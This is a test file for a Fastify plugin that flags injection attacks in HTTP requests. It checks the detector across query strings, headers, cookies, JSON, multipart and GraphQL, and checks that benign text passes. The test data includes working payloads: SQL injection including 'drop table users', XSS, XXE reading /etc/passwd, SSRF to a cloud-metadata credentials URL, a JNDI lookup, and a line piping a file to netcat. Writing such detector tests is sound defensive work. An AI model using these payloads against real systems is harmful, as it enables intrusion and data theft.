import { once } from 'node:events'
import { connect } from 'node:http2'
import type { AddressInfo } from 'node:net'
import formbody from '@fastify/formbody'
import multipart from '@fastify/multipart'
import Fastify from 'fastify'
import type { FastifyInstance } from 'fastify'
import { test } from 'tap'
import anomalies from '../../plugins'
import type { AnomaliesOptions } from '../../plugins'
import { attacks, plainBenign } from '../../train/corpus'
import { SeededRandom } from '../../train/random'
import { buildApp, SECRET } from '../fixtures/app'
import type { Ask, TestApp } from '../fixtures/app'

const ALONE: AnomaliesOptions = { endpointProfiler: false, headerProfiler: false, injection: {} }
const SQL = 'x\' or 1=1 --'
const SCRIPT = '<script>alert(document.cookie)</script>'

async function app (options: AnomaliesOptions = {}, config: Record<string, unknown> = {}): Promise<TestApp> {
  return await buildApp({ ...ALONE, ...options }, async (instance: FastifyInstance) => {
    await instance.register(formbody)
    await instance.register(multipart, { attachFieldsToBody: true })
    instance.addContentTypeParser(['application/xml', 'application/graphql', 'text/csv'], { parseAs: 'string' }, (request, body, done) => { done(null, body) })
    instance.addContentTypeParser('*', { parseAs: 'buffer' }, (request, body, done) => { done(null, body) })
    const answer = async (): Promise<object> => ({ ok: true })
    instance.get('/search', { config: { anomalies: config } }, answer)
    instance.get('/items/:id', answer)
    instance.post('/comments', { config: { anomalies: config }, bodyLimit: 4_194_304 }, answer)
  })
}

function post (payload: unknown, type = 'application/json'): Ask {
  return { method: 'POST', url: '/comments', headers: { 'content-type': type }, payload: (typeof payload === 'string' || Buffer.isBuffer(payload) ? payload : JSON.stringify(payload)) as string }
}

function form (name: string, value: string, fileName: string | null = null): string {
  return `--xx\r\nContent-Disposition: form-data; name="${name}"${fileName === null ? '' : `; filename="${fileName}"`}\r\n\r\n${value}\r\n--xx--\r\n`
}

const PLACES: readonly (readonly [where: string, field: string, ask: (text: string) => Ask])[] = [
  ['the query', 'query.q', (text) => ({ url: `/search?q=${encodeURIComponent(text)}` })],
  ['a name in the query', 'query.', (text) => ({ url: `/search?${encodeURIComponent(text)}=1` })],
  ['one of several values', 'query.q[]', (text) => ({ url: `/search?q=a&q=${encodeURIComponent(text)}` })],
  ['a path parameter', 'path.id', (text) => ({ url: `/items/${encodeURIComponent(text)}` })],
  ['an unknown path', 'request.path', (text) => ({ url: `/nothing/${encodeURIComponent(text)}` })],
  ['a header', 'header.x-context', (text) => ({ url: '/search', headers: { 'X-Context': encodeURIComponent(text) } })],
  ['a cookie', 'cookie.theme', (text) => ({ url: '/search', headers: { cookie: `lang=en; theme=${encodeURIComponent(text)}` } })],
  ['a JSON leaf', 'body.a.b[].c', (text) => post({ a: { b: [{ c: 'x' }, { c: text }] } })],
  ['a JSON name', 'body.', (text) => post({ [text]: 1 })],
  ['a JSON string', 'body', (text) => post(JSON.stringify(text))],
  ['an urlencoded body', 'form.message', (text) => post(`message=${encodeURIComponent(text)}`, 'application/x-www-form-urlencoded')],
  ['a multipart field', 'body.note', (text) => post(form('note', text), 'multipart/form-data; boundary=xx')],
  ['a GraphQL variable', 'body.variables.name', (text) => post({ query: 'query($name: String) { user(name: $name) { id } }', variables: { name: text } })],
  ['an XML body', 'body', (text) => post(`<?xml version="1.0"?><order><note>${text.replaceAll('<', '&lt;')}</note></order>`, 'application/xml')],
  ['raw text', 'body', (text) => post(text, 'text/plain')],
  ['a buffer of unknown type', 'body', (text) => post(Buffer.from(text), 'application/x-something')]
]

for (const [where, field, ask] of PLACES) {
  test(`injections in ${where} are found there, and ordinary text is not`, async (t) => {
    const subject = await app()
    for (const [text, type] of [[SQL, 'sql_injection'], [SCRIPT, 'xss']] as const) {
      const { assessment } = await subject.ask(ask(text))
      const signal = assessment.signals.find((each) => each.type === type)
      t.ok(signal, `${type} in ${where}: ${assessment.signals.map((each) => `${each.type} ${each.field}`).join(', ')}`)
      t.ok(assessment.flagged)
      t.equal(signal?.detector, 'injection')
      t.ok(signal?.field === field || (field.endsWith('.') && signal?.field?.startsWith(field)), `${signal?.field}`)
      t.notMatch((signal?.actual as { sample: string } | undefined)?.sample, /alert|cookie|or 1/, 'the text itself is not shown')
    }
    t.same((await subject.ask(ask('Two chairs for Mr O\'Brien, blue or green; thanks!'))).types, [])
  })
}

test('among headers that were clear a hundred times the one that is not is found, each time', async (t) => {
  const subject = await app()
  const headers = (context: string): Record<string, string> => ({ 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0.0.0 Safari/537.36', 'x-context': context, cookie: `theme=dark; lang=${context}` })
  for (let i = 0; i < 100; i++) t.same((await subject.ask({ url: '/search', headers: headers('home page') })).types, [])
  for (let i = 0; i < 3; i++) {
    const { assessment } = await subject.ask({ url: '/search', headers: headers(encodeURIComponent(SQL)) })
    t.same(assessment.signals.map(({ type, field }) => [type, field]).sort(), [['sql_injection', 'cookie.lang'], ['sql_injection', 'header.x-context']])
  }
})

test('that an application has a private address is no attack of those who come from its own pages', async (t) => {
  const subject = await app()
  const host = '192.168.1.10:8080'
  const from = (url: string, own = host): Ask => ({ url: '/search', headers: { host: own, origin: `http://${host}`, referer: `http://${host}${url}` } })
  t.same((await subject.ask(from('/orders?page=2'))).types, [])
  t.same((await subject.ask(from(`/orders?page=${encodeURIComponent(SQL)}`))).types, ['sql_injection'], 'the rest of it is read')
  t.same((await subject.ask(from('/orders', 'shop.example'))).types, ['ssrf', 'ssrf'], 'another host is')
  t.same((await subject.ask({ url: '/search', headers: { host, referer: `http://${host}@169.254.169.254/latest/meta-data` } })).types, ['ssrf'])
})

test('what is clear as a credential, of which the scheme is not looked at, is not thereby clear in another header', async (t) => {
  const subject = await app()
  const value = `${SCRIPT} abc`
  for (let i = 0; i < 3; i++) {
    t.same((await subject.ask({ url: '/search', headers: { authorization: value } })).types, [])
    t.match((await subject.ask({ url: '/search', headers: { 'x-context': value } })).types, ['xss'])
  }
})

test('a JSON object that looks like a part of a multipart body is looked at whole', async (t) => {
  const subject = await app()
  const { assessment } = await subject.ask(post({ fieldname: 'a', fields: {}, value: 'b', note: SQL }))
  t.match(assessment.signals.map(({ type, field }) => `${type} ${field}`), ['sql_injection body.note'])
})

test('a file name of a multipart body is looked at as it was sent, parsed or not', async (t) => {
  const ask = post(form('file', 'hello', '../../../../etc/passwd'), 'multipart/form-data; boundary=xx')
  t.match((await (await app()).ask(ask)).assessment.signals, [{ type: 'path_traversal', field: 'body.file' }])
  const whole = await buildApp(ALONE, (instance) => {
    instance.addContentTypeParser('*', { parseAs: 'buffer' }, (request, body, done) => { done(null, body) })
    instance.post('/comments', async () => 1)
  })
  t.match((await whole.ask(ask)).assessment.signals, [{ type: 'path_traversal', field: 'body.file' }])
})

test('a value that is base64 of a text is read in every place, and ids are not', async (t) => {
  const subject = await app()
  for (const [where, , ask] of PLACES) {
    if (where.includes('XML') || where.includes('path')) continue
    for (const [text, type] of [[SQL, 'sql_injection'], [SCRIPT, 'xss']] as const) t.match((await subject.ask(ask(Buffer.from(text).toString('base64')))).types, [type], `${type} in ${where}`)
    t.same((await subject.ask(ask('QmFzZTY0IGlzIG5vdCBhbiBhdHRhY2s='))).types, [], where)
    t.same((await subject.ask(ask('5e8f9ac0ffee5e8f9ac0ffee'))).types, [], where)
  }
})

test('a serialised object that runs code when it is read is found and named', async (t) => {
  const subject = await app()
  for (const text of ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU', 'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=', 'aced0005737200116a6176612e7574696c2e48617368']) {
    const { assessment } = await subject.ask(post({ state: text }))
    t.match(assessment.signals, [{ type: 'template_injection', field: 'body.state' }], text)
    t.match(assessment.signals[0]?.actual, { patterns: ['serialized_object'] })
  }
  t.same((await subject.ask(post({ state: 'rO0A', other: 'AAEAAAD_' }))).types, [])
})

test('the text of a GraphQL query is looked at, as JSON and as it is, and ordinary queries pass', async (t) => {
  const subject = await app()
  const ordinary = 'query Items($first: Int!) { items(first: $first, filter: {name: "chair"}) { id name price { amount currency } } }'
  const bad = `{ user(name: "${SQL}") { id } }`
  t.match((await subject.ask(post({ query: bad }))).assessment.signals, [{ type: 'sql_injection', field: 'body.query' }])
  t.match((await subject.ask(post(bad, 'application/graphql'))).assessment.signals, [{ type: 'sql_injection', field: 'body' }])
  t.match((await subject.ask(post({ query: '{ __schema { types { name fields { name } } } }' }))).types, ['graphql_probe'])
  t.same((await subject.ask(post({ query: ordinary, variables: { first: 10 } }))).types, [])
  t.same((await subject.ask(post(ordinary, 'application/graphql'))).types, [])
})

/** An application that reads its multipart bodies as streams. */
async function streaming (read: 'parts' | 'file' | 'iterate' | 'not' = 'parts', options: AnomaliesOptions = {}): Promise<TestApp> {
  return await buildApp({ ...ALONE, ...options }, async (instance: FastifyInstance) => {
    await instance.register(multipart)
    instance.post('/comments', async (request) => {
      if (read === 'parts') for await (const part of request.parts()) if (part.type === 'file') await part.toBuffer()
      if (read === 'file') await (await request.file())?.toBuffer()
      if (read === 'iterate') for await (const chunk of request.raw) if (chunk === null) break
      return { ok: true }
    })
  })
}

function several (...parts: readonly (readonly [name: string, value: string, fileName?: string])[]): Ask {
  return post(`${parts.map(([name, value, fileName]) => form(name, value, fileName ?? null).slice(0, -'--xx--\r\n'.length)).join('')}--xx--\r\n`, 'multipart/form-data; boundary=xx')
}

test('a multipart body that the application reads as a stream is looked at as it goes by: fields, names and file names', async (t) => {
  const subject = await streaming()
  const bad = await subject.ask(several(['title', 'hello'], ['note', SQL]))
  t.equal(bad.response.statusCode, 200)
  t.match(bad.assessment.signals, [{ type: 'sql_injection', field: 'body.note' }])
  t.match((await subject.ask(several(['a', 'hello', '../../../../etc/passwd']))).assessment.signals, [{ type: 'path_traversal', field: 'body.a' }])
  t.match((await subject.ask(several([SCRIPT.replaceAll('"', ''), 'x']))).types, ['xss'])
  t.same((await subject.ask(several(['title', 'Two chairs for Mr O\'Brien'], ['photo', 'xyz', 'chair.jpg']))).types, [])
  t.match((await (await streaming('file')).ask(several(['note', SQL], ['photo', 'xyz', 'a.jpg']))).types, ['sql_injection'])
  t.same((await (await streaming('parts', { injection: false })).ask(several(['note', SQL]))).types, [])
})

test('what is not seen of a streamed body is reported as such, and files are counted', async (t) => {
  const subject = await streaming('iterate')
  const { types, assessment } = await subject.ask(several(['note', SQL]))
  t.same(types, ['not_inspected'])
  t.equal(assessment.score, 0)
  const other = await streaming()
  await other.ask(several(['a', 'x', 'a.jpg'], ['b', 'y', 'b.jpg']))
  t.same((await other.ask(several(['note', 'word '.repeat(20_000)]))).types, ['not_inspected'])
  const learned = (app: TestApp): unknown => app.app.anomalies.baselines().find(({ id }) => id.includes('/comments'))?.detectors.injection?.learned
  t.match(learned(subject), { uninspected: { requests: 1, files: 0 } })
  t.match(learned(other), { uninspected: { requests: 1, files: 2 } })
  t.same((await (await streaming('not')).ask(several(['note', SQL]))).types, [], 'a body that nobody reads is no danger')
})

test('fields of multipart bodies become tame as others do, parsed or streamed', async (t) => {
  for (const subject of [await app(), await streaming()]) {
    const article = (i: number): Ask => several(['title', `Article ${i}`], ['text', `<script src="https://cdn.example.com/w${i}.js"></script>`])
    t.match((await subject.ask(article(0))).types, ['xss'])
    await subject.teach(60, article, 12)
    t.same((await subject.ask(article(99))).types, [])
    t.match((await subject.ask(several(['title', 'x'], ['text', SQL]))).types, ['sql_injection'])
  }
})

const KINDS: readonly (readonly [type: string, text: string])[] = [
  ['sql_injection', '1 union select username, password from users'],
  ['nosql_injection', '{"$where": "this.password.match(/^a/)"}'],
  ['xss', '" onmouseover="alert(1)'],
  ['command_injection', '; cat /etc/hosts | nc 10.0.0.1 4444'],
  ['path_traversal', '../../../../etc/shadow'],
  ['template_injection', '{{ \'\'.__class__.__mro__[1].__subclasses__() }}'],
  ['ldap_injection', '*)(uid=*))(|(uid=*'],
  ['xml_injection', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ['line_injection', 'en\r\nSet-Cookie: admin=1'],
  ['ssrf', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['jndi_injection', `$${'{jndi:ldap://x.example.com/a}'}`]
]

for (const [type, text] of KINDS) {
  test(`${type} is told from the others, encoded or not`, async (t) => {
    const subject = await app()
    const disguises = [text, encodeURIComponent(text), Buffer.from(text).toString('base64'), text.replace(/[<>'"(]/g, (c) => `&#${c.charCodeAt(0)};`), `We would like to know more about this. ${text}`]
    for (const disguise of disguises) t.equal((await subject.ask(post({ text: disguise }))).types[0], type, disguise)
  })
}

const PATTERNS: Readonly<Record<string, readonly string[]>> = {
  classic_or_payload: ['1 or 1=1', '\' or \'1\'=\'1', '" or "1"="1', 'x\' or true--', '1\' OR 2=2', '\' or 1<2', '\' or \'x\'=\'x', 'x\'\tor\t1=1', 'x\'/**/or/**/1=1', 'x\' || 1=1', '%27%20or%201%3D1'],
  union_select: ['1 union select 1', '1 UNION ALL SELECT null,null', 'x\'union select 1', '1 /*!50000union*/ select 1', '1 union distinct select 2', '1 union\nselect 2', '1/**/union/**/select/**/2'],
  comment_escape: ['admin\'--', 'admin\' -- ', 'admin";--', 'admin\'#', 'admin\'/*'],
  stacked_queries: ['1; drop table users', '1;DROP\tTABLE users', '1\';delete from users', '1; insert into users values (1)', '1; exec xp_cmdshell(1)', '1;drop/**/table users'],
  time_based_blind: ['1 and sleep(5)', '1; select pg_sleep(10)', '1; waitfor delay \'0:0:5\'', '1 and benchmark(1000000,md5(1))'],
  information_schema_probe: ['1 union select table_name from information_schema.tables', '1 union select 1 from pg_catalog.pg_tables', '1 and exists(select * from information_schema.columns)']
}

for (const [name, texts] of Object.entries(PATTERNS)) {
  test(`${name} is named beside the score`, async (t) => {
    const subject = await app()
    for (const text of texts) {
      const { assessment } = await subject.ask(post({ text }))
      t.ok((assessment.signals[0]?.actual as { patterns?: string[] } | undefined)?.patterns?.includes(name), text)
      t.match(assessment.signals[0]?.detail, name, text)
    }
  })
}

test('what hides in a credential is found although tokens are passed over at sight', async (t) => {
  const subject = await app()
  const asked = (authorization: string): Ask => ({ url: '/search', headers: { authorization, 'x-one': 'a' } })
  for (let i = 0; i < 3; i++) t.same((await subject.ask(asked(`Bearer eyJhbGciOiJIUzI1NiJ9.${'aB3_-x'.repeat(20 + i)}.QmFzZTY0`))).types, [])
  t.match((await subject.ask(asked(`Basic ${Buffer.from('admin:\' or 1=1 --').toString('base64')}`))).types, ['sql_injection'])
  t.match((await subject.ask(asked(`Bearer rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA${'x'.repeat(30)}`))).assessment.signals[0]?.field, 'header.authorization')
  t.match((await subject.ask({ url: '/search', headers: { authorization: 'Bearer abc', 'x-one': Buffer.from(SCRIPT).toString('base64url') } })).types, ['xss'])
})

test('texts that only contain the letters of an injection do not alarm', async (t) => {
  const subject = await app()
  for (const text of ['Version 2 is out; update now', 'Please call back; with kind regards', 'sweet dreams; set the alarm', '100% fact or true story', 'rock \'n\'#1', 'thread.sleep(10)', 'Western Union: select your country, then order by phone',
    'L\'été, c\'est l\'heure d\'un café', 'if (a < b && c > d) { return x }', '# Title\n\n- **bold** and [link](https://example.com)', '<p>Hello <b>world</b>, see <a href="/about">us</a>.</p>', '{"name":"O\'Brien","tags":["a","b"]}',
    'To read all rows, write SELECT * FROM customers; and press enter.', 'x = 1 or x = 2']) t.same((await subject.ask(post({ text }))).types, [], text)
})

test('one idea counts once, however many patterns it has', async (t) => {
  const { assessment } = await (await app()).ask(post({ text: 'x\' or \'1\'=\'1\'--' }))
  t.equal(assessment.signals.length, 1)
  t.ok(((assessment.signals[0]?.actual as { patterns: string[] }).patterns).length >= 2)
})

test('injection and the value model give one verdict about a field', async (t) => {
  const subject = await buildApp({ injection: {} }, (instance) => { instance.get('/search', async () => 1) })
  await subject.teach(120, (i) => ({ url: `/search?page=${1 + i % 30}` }))
  const { assessment, types } = await subject.ask(`/search?page=${encodeURIComponent(SQL)}`)
  t.match(types.sort(), ['param_value_anomaly', 'sql_injection'])
  t.ok(assessment.signals.every((signal) => signal.field === 'query.page'))
  t.equal(Math.round(assessment.score), Math.round(Math.max(...assessment.signals.map((signal) => signal.risk))))
})

test('a field that regularly holds such text from many clients stops alarming for that class, visibly, and for no other', async (t) => {
  const subject = await app()
  const article = (i: number): Ask => post({ title: `Article ${i}`, body: `<script src="https://cdn.example.com/w${i}.js"></script>` })
  t.match((await subject.ask(article(0))).types, ['xss'])
  await subject.teach(60, article, 12)
  t.same((await subject.ask(article(99))).types, [], 'tame')
  t.match((await subject.ask(post({ title: 'x', body: SQL }))).types, ['sql_injection'], 'not for SQL')
  t.match((await subject.ask(post({ title: SCRIPT, body: 'x' }))).types, ['xss'], 'not in another field')
  const route = subject.app.anomalies.baselines().find(({ id }) => id.includes('/comments'))
  t.match(route?.detectors.injection?.learned, { tame: [{ field: 'body.body', class: 'markup' }] })
  t.match(route?.promotions, [{ detector: 'injection', field: 'body.body (markup)' }])
})

test('few clients, or few such texts among many, tame nothing', async (t) => {
  const few = await app()
  await few.teach(200, (i) => post({ body: SCRIPT, n: i }), 3)
  t.match((await few.ask({ ...post({ body: SCRIPT }), client: 9000 })).types, ['xss'])
  const rare = await app()
  await rare.teach(400, (i) => post({ body: i % 20 === 0 ? SCRIPT : `ordinary words, number ${i}` }), 40)
  t.match((await rare.ask(post({ body: SCRIPT }))).types, ['xss'])
})

test('an id field that never holds anything of the kind alarms at less', async (t) => {
  const subject = await app()
  const hint = { url: '/search?id=' + encodeURIComponent('12 or 1') }
  const before = await (await app()).ask(hint)
  await subject.teach(150, (i) => `/search?id=${1000 + i}`)
  const route = subject.app.anomalies.baselines().find(({ id }) => id.includes('/search'))
  t.match(route?.detectors.injection?.learned, { strict: ['query.id'] })
  const after = await subject.ask(hint)
  t.same(before.types, [])
  t.same(after.types, ['sql_injection'])
})

test('lessons that stand for others weigh as many as those are, in the body and in headers', async (t) => {
  const subject = await app()
  await subject.teach(4000, (i) => ({ url: `/search?q=lamp ${i % 7}`, headers: { 'x-context': `blue ${i % 5}` } }))
  const snapshot = JSON.parse(JSON.stringify(subject.app.anomalies.snapshot())) as { shared: { injection: { headers: Record<string, { n: number }> } }, routes: Record<string, object> }
  const query = Object.values(snapshot.routes).flatMap((route) => JSON.stringify(route).match(/"query.q":\{"n":(\d+)/)?.[1] ?? [])
  const header = snapshot.shared.injection.headers['header.x-context']?.n ?? 0
  t.ok(Math.abs(Number(query[0]) - 4000) < 1000, `${query[0]} values of the query for 4000`)
  t.ok(Math.abs(header - 4000) < 1500, `${header} values of the header for 4000`)
})

test('what a field holds survives a snapshot', async (t) => {
  const subject = await app()
  const article = (i: number): Ask => post({ body: `<script src="https://cdn.example.com/w${i}.js"></script>` })
  await subject.teach(60, article, 12)
  const other = await app()
  other.app.anomalies.restore(JSON.parse(JSON.stringify(subject.app.anomalies.snapshot())))
  t.same((await other.ask(article(7))).types, [])
})

test('a payload behind 128 KB of padding is found, whatever the padding', async (t) => {
  const subject = await app()
  for (const unit of ['A', 'lorem ipsum ', '\' ', '%41', ' ']) {
    const padding = unit.repeat(131_072 / unit.length)
    for (const text of [padding + SQL, padding + '; ' + SCRIPT, padding + SQL + padding.slice(0, 2000)]) t.ok((await subject.ask(post({ text }))).assessment.flagged, unit)
  }
})

test('what lies beyond the limit is reported as not inspected, and the end is inspected', async (t) => {
  const subject = await app({ injection: { maxCharacters: 4096 } })
  t.same((await subject.ask(post({ text: 'word '.repeat(800) }))).types, [])
  const { types, assessment } = await subject.ask(post({ text: 'word '.repeat(1000) }))
  t.same(types, ['not_inspected'])
  t.equal(assessment.score, 0)
  t.match(assessment.signals[0], { actual: 904, expected: 4096 })
  t.match((await subject.ask(post({ text: 'word '.repeat(2000) + SQL }))).types, ['sql_injection'])
  const route = subject.app.anomalies.baselines().find(({ id }) => id.includes('/comments'))
  t.match(route?.detectors.injection?.learned, { uninspected: { requests: 2 } })
})

test('deep and wide bodies are walked within bounds', async (t) => {
  const subject = await app()
  let deep: unknown = SQL
  for (let i = 0; i < 40; i++) deep = i % 2 === 0 ? { a: deep } : [deep]
  t.match((await subject.ask(post(deep))).types, ['sql_injection'])
  const wide = await subject.ask(post(Array.from({ length: 6000 }, (_, i) => `word ${i}`)))
  t.same(wide.types, ['not_inspected'])
})

test('each option changes what it says, and the detector can be left out', async (t) => {
  t.same((await (await app({ injection: false })).ask(post({ text: SQL }))).types, [])
  t.same((await (await app({}, { injection: false })).ask(post({ text: SQL }))).types, [], 'per route')
  t.same((await (await app({ injection: { headers: false } })).ask({ url: '/search', headers: { 'x-context': SQL } })).types, [])
  const soon = await app({ injection: { tameAfter: 1 } })
  await soon.teach(20, () => post({ body: SCRIPT }), 1)
  await soon.teach(20, () => ({ ...post({ body: SCRIPT }), after: 700_000 }), 1)
  t.same((await soon.ask(post({ body: SCRIPT }))).types, [], 'tameAfter')
  for (const bad of [{ maxCharacters: 1 }, { tameAfter: 0 }, { headers: 1 }, { novelty: 'x' }, { shapes: 1000 }, { size: 3 }, { mode: 'x' }]) await t.rejects(app({ injection: bad as object }), { code: 'FST_ANOMALIES_BAD_OPTION', message: /injection/ })
})

test('requests of many new shapes within a minute alarm by their rate, once, and single ones never', async (t) => {
  for (const [injection, expected] of [[{}, 1], [{ novelty: false }, 0]] as const) {
    const subject = await app({ injection })
    await subject.teach(1200, (i) => i % 2 === 0 ? `/search?q=a&page=${i}` : post({ a: i, b: [String(i)] }))
    t.same((await subject.ask('/search?once=1')).types, [])
    const seen: string[] = []
    for (let i = 0; i < 30; i++) seen.push(...(await subject.ask({ url: `/search?field${i}=1`, after: 10 })).types)
    t.equal(seen.filter((type) => type === 'novel_request_rate').length, expected)
  }
})

test('which shapes are known survives a restart: nothing ordinary is news to the new process', async (t) => {
  const shapes = (i: number): string => `/search?${['q', 'page', 'sort', 'from'].slice(0, 1 + i % 4).join('=1&')}=1&p${i % 60}=1`
  const subject = await app()
  await subject.teach(1200, shapes)
  const snapshot = JSON.parse(JSON.stringify(subject.app.anomalies.snapshot())) as { shared: { injection: { novelty: { shapes?: unknown } } } }
  const restarted = await app()
  restarted.app.anomalies.restore(snapshot as never)
  const alarms = async (subject: TestApp, make: (i: number) => string): Promise<number> => {
    let count = 0
    for (let i = 0; i < 240; i++) count += (await subject.ask({ url: make(i), after: 10 })).types.filter((type) => type === 'novel_request_rate').length
    return count
  }
  t.equal(await alarms(restarted, shapes), 0)
  t.ok(await alarms(restarted, (i) => `/search?field${i}=1`) > 0, 'new shapes still are news')
})

test('a route that is just being learned makes no news', async (t) => {
  const subject = await app()
  await subject.teach(1200, (i) => `/search?q=a&page=${i}`)
  const seen: string[] = []
  for (let i = 0; i < 19; i++) seen.push(...(await subject.ask({ ...post({ [`field${i}`]: 1 }), after: 10 })).types)
  for (let i = 0; i < 12; i++) seen.push(...(await subject.ask({ url: `/items/${i}?field${i}=1`, after: 10 })).types)
  t.same(seen, [])
})

test('on texts that it was not trained on, the model holds to its card', async (t) => {
  const subject = await app()
  subject.app.anomalies.freeze()
  const good = plainBenign(new SeededRandom(4711), 4000)
  let alarms = 0
  for (let i = 0; i < good.length; i += 20) {
    const { assessment } = await subject.ask(post({ texts: good.slice(i, i + 20).map(({ text }) => text) }))
    alarms += assessment.signals.length
  }
  t.ok(alarms <= 0.0025 * good.length, `${alarms} alarms on ${good.length} benign texts`)
  const bad = attacks(new SeededRandom(4712), 1500)
  let caught = 0
  for (const { text } of bad) if ((await subject.ask(post({ text }))).assessment.flagged) caught++
  t.ok(caught >= 0.92 * bad.length, `${caught} of ${bad.length} attacks`)
})

test('on HTTP/2 a payload in the query is told once, not in :path too', async (t) => {
  const app = Fastify({ http2: true })
  const seen: (string | undefined)[] = []
  await app.register(anomalies, { secret: SECRET, onAnomaly: ({ detector, field }) => { if (detector === 'injection') seen.push(field) } })
  app.get('/find', async () => ({}))
  await app.listen({ port: 0, host: '127.0.0.1' })
  const session = connect(`http://127.0.0.1:${(app.server.address() as AddressInfo).port}`)
  t.teardown(async () => {
    session.close()
    await app.close()
  })
  const stream = session.request({ ':path': `/find?q=${encodeURIComponent("1' UNION SELECT password FROM users--")}` })
  stream.resume()
  await once(stream, 'end')
  app.anomalies.query()
  t.same(seen, ['query.q'])
})
